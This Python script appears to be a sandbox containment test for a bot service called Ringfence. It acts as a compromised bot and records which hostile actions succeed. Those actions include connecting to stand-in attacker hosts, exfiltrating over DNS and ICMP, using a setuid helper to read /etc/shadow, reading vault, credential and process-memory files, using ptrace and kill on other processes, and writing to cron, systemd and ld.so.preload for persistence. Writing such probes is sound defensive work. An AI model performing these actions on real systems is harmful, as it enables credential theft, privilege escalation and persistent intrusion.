"""A bot that has been taken over: it tries to carry things out, and writes down what worked. It runs as a bot does.

Standard library only, and no word of ours: it is put into a box as a file, and started by the bot's own unit.
"""

import ctypes
import json
import os
import socket
import subprocess
import sys

EXCHANGE, ATTACKER, RESOLVER, METADATA = "203.0.113.10", "203.0.113.66", "192.0.2.53", "169.254.169.254"
HELPER = "/usr/local/bin/helper"  # set-user-id root: a copy of Python
worked = {}


def attempt(name):
    def run(act):
        try:
            got = act()
        except BaseException as error:
            worked[name] = [False, f"{type(error).__name__}: {error}"]
        else:
            worked[name] = [bool(got), repr(got)[:200]]
        return act

    return run


def connect(address, port, family=socket.AF_INET):
    with socket.socket(family) as wire:
        wire.settimeout(3)
        wire.connect((address, port))
        return True


def read(path):
    with open(path, "rb") as file:
        return file.read(64)


def send_udp(address, port):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as wire:
        return wire.sendto(
            bytes.fromhex("000101000001000000000000066c65616b6564076578616d706c6503636f6d0000010001"), (address, port)
        )


def icmp(kind):
    with socket.socket(socket.AF_INET, kind, socket.IPPROTO_ICMP) as wire:
        return wire.sendto(bytes.fromhex("0800f7fe00010000") + b"leaked", (ATTACKER, 0))


def pid_of(word):
    for name in os.listdir("/proc"):
        if name.isdigit():
            try:
                if word in open(f"/proc/{name}/cmdline").read():
                    return int(name)
            except OSError:
                pass
    raise LookupError(f"no process of {word} is seen")


def unix(path):
    with socket.socket(socket.AF_UNIX) as wire:
        wire.settimeout(3)
        wire.connect(path)
        return True


def write(path, text="stolen\n"):
    with open(path, "a") as file:
        file.write(text)
    return True


def exec_dropped():
    path = os.path.join(os.environ["HOME"], "dropped")
    with open("/usr/bin/id", "rb") as source, open(path, "wb") as target:
        target.write(source.read())
    os.chmod(path, 0o755)
    return subprocess.run([path], check=True).returncode == 0


def helper(code):
    done = subprocess.run([HELPER, "-c", code], capture_output=True, text=True, timeout=20)
    return done.returncode == 0 and done.stdout


def bind(address, port):
    with socket.socket() as wire:
        wire.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        wire.bind((address, port))
        wire.listen()
        return True


attempt("tcp exchange")(lambda: connect(EXCHANGE, 443))
attempt("tcp attacker")(lambda: connect(ATTACKER, 443))
attempt("tcp attacker http")(lambda: connect(ATTACKER, 80))
attempt("tcp ipv6")(lambda: connect("2001:db8::1", 443, socket.AF_INET6))
attempt("metadata")(lambda: connect(METADATA, 80))
attempt("udp attacker")(lambda: send_udp(ATTACKER, 443))
attempt("dns udp")(lambda: send_udp(RESOLVER, 53))
attempt("dns tcp")(lambda: connect(RESOLVER, 53))
attempt("dns by name")(lambda: socket.getaddrinfo("secret.attacker.example", 443))
attempt("icmp raw")(lambda: icmp(socket.SOCK_RAW))
attempt("icmp ping")(lambda: icmp(socket.SOCK_DGRAM))
attempt("packet socket")(lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW))
attempt("netlink")(lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW))
attempt("ssh of the host")(lambda: connect("127.0.0.1", 22))
attempt("paper exchange")(lambda: connect("127.0.0.1", 8410))
attempt("ssh by address")(lambda: connect("192.0.2.10", 22))
attempt("helper is root")(lambda: helper("import os; os.setuid(0); print(open('/etc/shadow').read(9))"))
attempt("helper connects")(
    lambda: helper(f"import socket; socket.create_connection(('{ATTACKER}', 443), 3); print('out')")
)
attempt("vault")(lambda: read("/var/lib/ringfence/vault"))
attempt("journal")(lambda: os.listdir("/var/lib/ringfence/journal"))
attempt("passes")(lambda: read("/var/lib/ringfence/gateway/passes.toml"))
attempt("sealed passphrase")(lambda: read("/etc/credstore.encrypted/ringfence-passphrase"))
attempt("credentials")(lambda: os.listdir("/run/credentials"))
attempt("shadow")(lambda: read("/etc/shadow"))
attempt("signer is seen")(lambda: pid_of("ringfence.signer"))
attempt("memory of init")(lambda: read("/proc/1/mem"))
attempt("environment of init")(lambda: read("/proc/1/environ"))
for number in sys.argv[1:]:
    attempt(f"memory of {number}")(lambda number=number: read(f"/proc/{number}/mem"))
    attempt(f"trace of {number}")(lambda number=number: ctypes.CDLL(None).ptrace(16, int(number), 0, 0) == 0)
    attempt(f"kill of {number}")(lambda number=number: os.kill(int(number), 9) is None)
attempt("control socket")(lambda: unix("/run/ringfence/signer/owner.sock"))
attempt("control socket by the home")(lambda: unix("/var/lib/ringfence/run/signer/owner.sock"))
attempt("message bus")(lambda: unix("/run/dbus/system_bus_socket"))
attempt("systemd itself")(lambda: unix("/run/systemd/private"))
attempt("own code")(lambda: write(__file__))
attempt("own folder")(lambda: write(os.path.join(os.path.dirname(__file__), "sitecustomize.py")))
attempt("ringfence's code")(lambda: write("/usr/local/bin/ringfence"))
attempt("a unit")(lambda: write("/etc/systemd/system/mine.service"))
attempt("cron")(lambda: write("/etc/cron.d/mine"))
attempt("preload")(lambda: write("/etc/ld.so.preload"))
attempt("a dropped program")(exec_dropped)
attempt("user namespace")(lambda: ctypes.CDLL(None).unshare(0x10000000) == 0)
attempt("the gateway's port")(lambda: bind("127.0.0.1", 8300))
attempt("the gateway's port everywhere")(lambda: bind("0.0.0.0", 8300))

# What must work: the way to Ringfence, and a place of its own to write.
attempt("OK gateway")(lambda: connect("127.0.0.1", 8300))
attempt("OK proxy")(lambda: connect("127.0.0.1", 8118))
attempt("OK state")(lambda: write(os.path.join(os.environ["HOME"], "notes")))
attempt("OK folder")(lambda: write(os.path.join(os.path.dirname(__file__), "data", "notes")))

with open(os.path.join(os.environ["HOME"], "worked.json.new"), "w") as file:
    json.dump(worked, file)
os.rename(os.path.join(os.environ["HOME"], "worked.json.new"), os.path.join(os.environ["HOME"], "worked.json"))

# Last, its page, which its owner may look at; and it goes on running, as a bot does.
server = socket.create_server(("127.0.0.1", 8080))
while True:
    wire, _ = server.accept()
    with wire:
        wire.recv(4096)
        wire.sendall(b"HTTP/1.0 200 OK\r\nContent-Length: 14\r\n\r\nthe bot's page")
